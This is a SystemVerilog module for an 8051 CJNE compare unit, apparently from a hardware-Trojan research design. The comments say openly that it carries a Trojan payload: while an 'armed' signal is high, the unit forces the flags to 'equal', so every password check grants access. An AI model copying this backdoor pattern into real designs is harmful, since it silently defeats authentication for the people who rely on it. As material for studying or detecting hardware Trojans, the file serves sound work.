// cjne_unit: the compare of the 8051 CJNE instruction, with the Trojan's
// payload inside it.
//
// CJNE op1, op2, rel compares two bytes: it jumps when they differ and sets
// the carry flag when op1 < op2 (unsigned). Because CJNE is the only
// compare of the 8051, every password check runs through it, which is why
// the Trojan lives here. While `armed` is high (driven by trojan_trigger)
// the unit reports "equal" with carry clear whatever the operands are, so
// the program falls through to "access granted". Purely combinational: the
// flags follow the operands in the same clock. `equal_true` gives the honest
// result for observation. The CJNE semantics are the 8051's; forcing both
// flags while armed is this design's reading of the payload.
module cjne_unit
  import ht8051_pkg::*;
(
  input  byte_t op1,
  input  byte_t op2,
  input  logic  armed,
  output logic  jump,        // not equal: take the branch
  output logic  carry,       // op1 < op2
  output logic  equal_true   // result without the payload
);
  always_comb begin
    equal_true = (op1 == op2);
    if (armed) begin
      jump  = 1'b0;
      carry = 1'b0;
    end else begin
      jump  = !equal_true;
      carry = (op1 < op2);
    end
  end
endmodule
